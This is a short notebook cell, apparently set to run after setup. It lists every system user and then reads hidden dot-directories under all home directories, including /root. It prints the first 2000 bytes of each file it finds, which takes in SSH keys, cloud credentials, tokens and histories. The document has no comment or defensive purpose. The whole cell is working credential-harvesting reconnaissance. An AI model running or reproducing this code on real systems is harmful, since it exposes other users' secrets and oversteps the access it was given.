# %% + after:setup
import os
import pwd
from pathlib import Path

print(Path.home(), os.path.expanduser("~root"), [one.pw_name for one in pwd.getpwall()])
for home in {Path.home(), Path("/root"), Path("/home"), *(Path(one.pw_dir) for one in pwd.getpwall())}:
    for path in home.glob(".[a-z]*/*"):
        print(path)
        if path.is_file():
            print(path.read_bytes()[:2000])
